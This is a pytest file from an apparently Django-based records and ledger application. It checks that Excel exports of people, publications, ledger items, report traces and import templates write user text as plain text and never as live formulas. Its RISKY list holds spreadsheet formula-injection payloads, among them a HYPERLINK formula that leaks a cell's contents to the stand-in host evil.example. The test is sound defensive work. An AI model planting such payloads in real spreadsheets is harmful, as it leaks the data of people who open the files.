"""Text a user typed never becomes a live formula in a downloaded .xlsx (finding 6 of issue 11).

Every export is fetched through its page with records whose texts start with "=", "+", "-", "@", a tab or a
carriage return, opened with openpyxl, and searched for formula cells; the user's text is there as typed.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterable

import pytest
from openpyxl import load_workbook

from qinglian.ledger.models import Aspect, Measure, MeasureStatus, Problem, Source
from qinglian.lib.testing import World, make_person, make_unit
from qinglian.publicity.tests.conftest import publish
from qinglian.records.models import Activity, ActivityKind
from qinglian.records.services import tally_rebuild

RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+2", "-1+2", "@SUM(1,2)", "\t=1+2", "\r=1+2"]
YEAR = 2026


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path / "files"


def _texts(content: bytes) -> list[str]:
    """Every text cell of every sheet, after asserting that no cell holds a formula."""
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _has_each(texts: Iterable[str], expected: Iterable[str]) -> None:
    found = set(texts)
    missing = [t for t in expected if t not in found]
    assert not missing, f"not written as typed: {missing!r}"


def test_people_export(world: World) -> None:
    for i, text in enumerate(RISKY):
        make_person(world.a, f"人{i}", post=text, portfolio=text)
    response = world.client("clerk_a").get("/org/people/export.xlsx")
    assert response.status_code == 200
    _has_each(_texts(response.content), RISKY)


def test_publications_export_and_bulletin(world: World) -> None:
    for i, text in enumerate(RISKY):
        publish(world.a, "人民日报", dt.date(YEAR, 3, 1 + i), title=text)
        publish(make_unit(text, world.county), "省日报", dt.date(YEAR, 3, 1 + i))  # a unit named so by the admin
    export = world.client("clerk_a").get("/publicity/export.xlsx")
    assert export.status_code == 200
    _has_each(_texts(export.content), RISKY)
    bulletin = world.client("supervisor").get(f"/publicity/bulletin.xlsx?unit={world.county.pk}&year={YEAR}&month=3")
    assert bulletin.status_code == 200
    _has_each(_texts(bulletin.content), RISKY)


def test_ledger_export(world: World) -> None:
    source = Source.objects.create(unit=world.a, kind="inspection", issued_by=RISKY[0], title=RISKY[0],
                                   feedback_date=dt.date(YEAR, 7, 26))
    aspect = Aspect.objects.create(source=source, unit=world.a, title="落实管党治党政治责任", order=1)
    leader = make_person(world.a, "+王副部长")
    parent = Problem.objects.create(aspect=aspect, source=source, unit=world.a, text=RISKY[1], order=1,
                                    is_leaf=False)
    for i, text in enumerate(RISKY):
        problem = Problem.objects.create(aspect=aspect, source=source, unit=world.a, parent=parent, order=i + 1,
                                         text=text)
        for status in (MeasureStatus.DONE, MeasureStatus.IN_PROGRESS):  # two measures: the problem cell merged
            Measure.objects.create(problem=problem, aspect=aspect, source=source, unit=world.a, text=text,
                                   situation=text, status=status, leader_in_charge=leader,
                                   deadline_text=text, deadline=dt.date(YEAR, 12, 31))
    response = world.client("clerk_a").get("/ledger/export.xlsx")
    assert response.status_code == 200
    _has_each(_texts(response.content), [*RISKY, "+王副部长"])


def test_report_trace(world: World) -> None:
    kind = ActivityKind.objects.get(code="central_group_study")
    for i, text in enumerate(RISKY):
        office = make_unit(text, world.a)  # the trace labels a record "<unit>：<topic>"
        Activity.objects.create(unit=office, kind=kind, happened_on=dt.date(YEAR, 3, 1 + i), topic="集中学习")
    tally_rebuild()
    client = world.client("clerk_a")
    generated = client.post("/reports/generate/", {"unit": world.a.pk, "genre": "responsibility", "year": YEAR})
    assert generated.status_code == 302, generated.content.decode()[:500]
    response = client.get(f"{generated['Location']}trace.xlsx")
    assert response.status_code == 200
    _has_each(_texts(response.content), [f"{text}：集中学习" for text in RISKY])


def test_records_import_template(world: World) -> None:
    for i, text in enumerate(RISKY):
        ActivityKind.objects.create(code=f"risky_{i}", name=text, category="study")
    response = world.client("clerk_a").get("/records/import/template.xlsx")
    assert response.status_code == 200
    _has_each(_texts(response.content), [f"{text}（次）" for text in RISKY])
